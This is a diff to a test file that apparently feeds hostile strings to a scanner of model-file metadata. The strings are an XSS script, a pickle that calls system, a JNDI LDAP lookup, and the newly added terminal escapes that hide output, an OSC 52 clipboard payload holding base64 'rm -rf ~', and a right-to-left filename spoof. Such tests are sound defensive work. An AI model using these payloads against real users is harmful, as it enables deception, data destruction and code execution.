@@ -318,7 +318,11 @@ SAID = {
     "a script": "<script>alert(1)</script>",
     "an encoded pickle": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu",
     "a template": "${jndi:ldap://example.org/a}",
+    "a cursor that goes back": "harmless\x1b[2K\x1b[1Anothing found",
+    "a clipboard that is filled": "\x1b]52;c;cm0gLXJmIH4K\x07",
+    "a text that runs backwards": "photo\u202egpj.exe",
 }
+MEANT_ILL = frozenset(SAID) - {"a call of eval"}  # which may be an example in a description
 TEXTS: dict[str, Sample] = {
     **{f"metadata with {k}": onnx_file(texts(note=v)) for k, v in SAID.items()},
     **{f"safetensors metadata with {k}": safetensors_file({"__metadata__": {"note": v}}) for k, v in SAID.items()},
